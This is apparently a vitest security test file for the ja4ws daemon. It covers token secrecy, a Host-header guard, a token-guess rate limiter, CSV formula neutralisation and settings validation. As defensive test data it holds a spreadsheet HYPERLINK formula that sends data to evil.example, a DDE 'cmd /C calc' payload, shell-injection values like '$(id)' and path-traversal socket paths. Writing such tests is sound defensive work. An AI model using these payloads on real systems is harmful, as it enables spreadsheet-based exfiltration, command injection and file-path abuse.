// Issue 15 points 7, 8, 11 and 12 against a real daemon (`ja4ws --daemon`, built dist/): the token
// never printed, the Host-header guard, the failure limiter measured in guesses/s, and the search
// export's CSV fed by real HTTP requests (curl -> a Node server with ja4ws/http-logger -> the
// daemon's http.socket -> correlator -> store).
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { existsSync, readFileSync } from 'node:fs';
import { Agent, createServer, request, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHttpLogger, type HttpLogger } from '../../http-logger/src/index.js';
import { parseCsv } from '../../main/storage/migrations/known-fingerprints.js';
import {
  removeDir,
  runCli,
  startDaemon,
  tempDataDir,
  type RunningDaemon,
} from '../support/daemon.js';
import { formulaCells } from './csv-cells.js';

let daemon: RunningDaemon;
let dataDir: string;
let port: number;

beforeAll(async () => {
  dataDir = tempDataDir('ja4ws-sec-http-');
  process.env.JA4WS_DAEMON__ALLOWED_HOSTS = '[proxy.example]';
  // Requests with no handshake are decided (stored "unmatched") one second after they arrive.
  process.env.JA4WS_CORRELATOR__WINDOW_MS = '1000';
  process.env.JA4WS_CORRELATOR__REORDER_MS = '0';
  try {
    daemon = await startDaemon(dataDir);
  } finally {
    delete process.env.JA4WS_DAEMON__ALLOWED_HOSTS;
    delete process.env.JA4WS_CORRELATOR__WINDOW_MS;
    delete process.env.JA4WS_CORRELATOR__REORDER_MS;
  }
  port = Number(new URL(daemon.url).port);
}, 90_000);

afterAll(async () => {
  await daemon?.stop();
  removeDir(dataDir);
});

interface Reply {
  status: number;
  body: string;
  headers: Record<string, string | string[] | undefined>;
}

/** node:http, because fetch may not set Host. */
function call(
  path: string,
  opts: {
    host?: string;
    token?: string;
    body?: unknown;
    localAddress?: string;
    agent?: Agent;
  } = {},
): Promise<Reply> {
  const body = opts.body === undefined ? undefined : JSON.stringify(opts.body);
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: '127.0.0.1',
        port,
        path,
        method: body === undefined ? 'GET' : 'POST',
        ...(opts.localAddress ? { localAddress: opts.localAddress } : {}),
        ...(opts.agent ? { agent: opts.agent } : {}),
        headers: {
          ...(opts.host ? { host: opts.host } : {}),
          ...(opts.token ? { authorization: `Bearer ${opts.token}` } : {}),
          ...(body !== undefined ? { 'content-type': 'application/json' } : {}),
        },
      },
      (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (d: string) => (text += d));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, body: text, headers: res.headers }),
        );
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

describe('the token is never printed (point 8)', () => {
  it('stdout and stderr name the token file and the command, not the token', () => {
    const out = daemon.output();
    expect(daemon.token.length).toBeGreaterThanOrEqual(32);
    expect(out).not.toContain(daemon.token);
    expect(out).toContain(`UI:    ${daemon.url}/`);
    expect(out).toContain(`token: kept in ${join(dataDir, 'api-token')}`);
    expect(out).toContain(`ja4ws token url --data-dir ${dataDir}`);
  });

  it("`ja4ws token url` prints the running daemon's address with the token; `token show` the token", () => {
    const url = runCli(['token', 'url', '--data-dir', dataDir]);
    expect(url.stderr).toBe('');
    expect(url.stdout.trim()).toBe(`${daemon.url}/#token=${daemon.token}`);
    const show = runCli(['token', 'show', '--data-dir', dataDir]);
    expect(show.stdout.trim()).toBe(daemon.token);
    const none = runCli(['token', 'url', '--data-dir', tempDataDir('ja4ws-sec-none-')]);
    expect(none.status).toBe(1);
    expect(none.stderr).toMatch(/no daemon is running on .*ja4ws-sec-none-/);
  });
});

describe('Host header guard (point 12)', () => {
  it('answers loopback names, the listen address and daemon.allowedHosts', async () => {
    for (const host of [
      `127.0.0.1:${port}`,
      `localhost:${port}`,
      `LOCALHOST.:${port}`,
      `[::1]:${port}`,
      'proxy.example',
      `proxy.example:443`,
    ]) {
      const r = await call('/api/v1/health.status', { host, token: daemon.token, body: {} });
      expect(r.status, `${host}: ${r.body}`).toBe(200);
    }
  });

  it('refuses any other name with 421 and a message, token or not, API or UI', async () => {
    for (const host of [`evil.example:${port}`, 'evil.example', `localhost.evil.example:${port}`]) {
      const api = await call('/api/v1/health.status', { host, token: daemon.token, body: {} });
      expect(api.status, host).toBe(421);
      const body = JSON.parse(api.body) as { error: { code: string; message: string } };
      expect(body.error.code).toBe('host.forbidden');
      expect(body.error.message).toContain(JSON.stringify(host));
      expect(body.error.message).toContain('daemon.allowedHosts');
      expect((await call('/', { host })).status).toBe(421);
      expect((await call('/healthz', { host })).status).toBe(421);
    }
  });
});

describe('failure limiter (point 11)', () => {
  it('lets a source make at most ~10 guesses a minute, and a 429 says nothing about the guess', async () => {
    // Another loopback address than the one the rest of the file uses: its own source.
    const localAddress = '127.0.0.2';
    const agent = new Agent({ keepAlive: true, maxSockets: 8 });
    const statuses = new Map<number, number>();
    const started = Date.now();
    const attempts = 400;
    for (let i = 0; i < attempts; i += 8) {
      const batch = await Promise.all(
        Array.from({ length: 8 }, (_, j) =>
          call('/api/v1/health.status', {
            token: `guess-${i + j}-0123456789abcdefghijklmnopqrstuv`,
            body: {},
            localAddress,
            agent,
          }),
        ),
      );
      for (const r of batch) statuses.set(r.status, (statuses.get(r.status) ?? 0) + 1);
    }
    const seconds = (Date.now() - started) / 1000;
    const checked = statuses.get(401) ?? 0;
    // The bucket holds 10 and earns one back every 6 s.
    expect(checked).toBeGreaterThanOrEqual(10);
    expect(checked).toBeLessThanOrEqual(10 + Math.ceil(seconds / 6));
    expect(statuses.get(429)).toBe(attempts - checked);
    console.log(
      `limiter: ${attempts} guesses in ${seconds.toFixed(2)} s, ${checked} checked = ${(checked / seconds).toFixed(2)} checked guesses/s (${(attempts / seconds).toFixed(0)} answered/s)`,
    );
    // The right token from the limited source gets the very same 429 as a wrong one.
    const right = await call('/api/v1/health.status', {
      token: daemon.token,
      body: {},
      localAddress,
      agent,
    });
    const wrong = await call('/api/v1/health.status', {
      token: 'wrong',
      body: {},
      localAddress,
      agent,
    });
    expect(right.status).toBe(429);
    expect(right.body).toBe(wrong.body);
    expect(Number(right.headers['retry-after'])).toBeGreaterThanOrEqual(1);
    expect(Number(right.headers['retry-after'])).toBeLessThanOrEqual(6);
    agent.destroy();
    // Other sources are not affected.
    expect((await call('/api/v1/health.status', { token: daemon.token, body: {} })).status).toBe(
      200,
    );
  });
});

describe('search export CSV from real requests (point 7)', () => {
  let web: Server | undefined;
  let logger: HttpLogger | undefined;
  afterAll(async () => {
    await logger?.close(200);
    await new Promise<void>((r) => (web ? web.close(() => r()) : r()));
  });

  it('neutralises formulas a client put in Host, User-Agent and the path', async () => {
    const socketPath = join(dataDir, 'http.socket');
    expect(existsSync(socketPath)).toBe(true);
    logger = createHttpLogger({ socketPath, source: 'sec-test' });
    const lg = logger;
    web = createServer((req, res) => {
      lg.handle(req, res);
      res.end('ok');
    });
    await new Promise<void>((r) => web!.listen(0, '127.0.0.1', () => r()));
    const webPort = (web.address() as { port: number }).port;
    const host = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const ua = "@SUM(1+1)*cmd|' /C calc'!A0";
    // Asynchronous: the web server answering curl runs in this process.
    const curl = await promisify(execFile)(
      'curl',
      [
        '-s',
        '-o',
        '/dev/null',
        '-w',
        '%{http_code}',
        '-H',
        `Host: ${host}`,
        '-A',
        ua,
        `http://127.0.0.1:${webPort}/+cmd?-2+3`,
      ],
      { encoding: 'utf8', timeout: 20_000 },
    );
    expect(curl.stdout).toBe('200');
    const window = {
      from: new Date(Date.now() - 3_600_000).toISOString(),
      to: new Date(Date.now() + 3_600_000).toISOString(),
    };
    const query = { window, source: 'requests', filters: { user_agent: ua } };
    let rows: { host: string; user_agent: string; path: string }[] = [];
    for (let t = 0; rows.length === 0 && t < 150; t++) {
      await new Promise((r) => setTimeout(r, 200));
      const r = await call('/api/v1/search.query', { token: daemon.token, body: query });
      rows = (JSON.parse(r.body) as { rows: typeof rows }).rows ?? [];
    }
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ host, user_agent: ua, path: '/+cmd' });
    const csv = await call('/api/v1/search.export?format=csv', {
      token: daemon.token,
      body: query,
    });
    expect(csv.status).toBe(200);
    const [header, ...data] = parseCsv(csv.body);
    expect(data).toHaveLength(1);
    const cell = (name: string) => data[0]![header!.indexOf(name)];
    expect(cell('host')).toBe(`'${host}`);
    expect(cell('user_agent')).toBe(`'${ua}`);
    expect(cell('path')).toBe(`/+cmd`);
    expect(formulaCells(data)).toEqual([]);
  });
});

describe('settings.set validation (point 9)', () => {
  const set = (settings: Record<string, unknown>) =>
    call('/api/v1/settings.set', { token: daemon.token, body: { settings } });
  const error = (r: Reply) =>
    (JSON.parse(r.body) as { error: { field: string; message: string } }).error;

  it('refuses hostile interface names and socket paths with 400 naming the field and value', async () => {
    for (const [settings, field, value] of [
      [{ captureInterfaces: ['lo; id'] }, 'settings.captureInterfaces.0', 'lo; id'],
      [{ captureInterfaces: ['eth0', '$(id)'] }, 'settings.captureInterfaces.1', '$(id)'],
      [
        { httpSocket: '../../../../etc/evil.socket' },
        'settings.httpSocket',
        '../../../../etc/evil.socket',
      ],
      [{ networkSocket: '/etc/evil.socket' }, 'settings.networkSocket', '/etc/evil.socket'],
      [
        { httpSocket: `${dataDir}/../evil.socket` },
        'settings.httpSocket',
        `${dataDir}/../evil.socket`,
      ],
    ] as const) {
      const r = await set(settings);
      expect(r.status, r.body).toBe(400);
      expect(error(r).field).toBe(field);
      expect(error(r).message).toContain(JSON.stringify(value));
    }
    expect(existsSync(join(dataDir, 'settings.yaml'))).toBe(false);
  });

  it('stores valid values (inside the data directory, a real interface name)', async () => {
    const r = await set({ captureInterfaces: ['lo'], httpSocket: join(dataDir, 'other.socket') });
    expect(r.status, r.body).toBe(200);
    expect(readFileSync(join(dataDir, 'settings.yaml'), 'utf8')).toContain(
      join(dataDir, 'other.socket'),
    );
  });
});
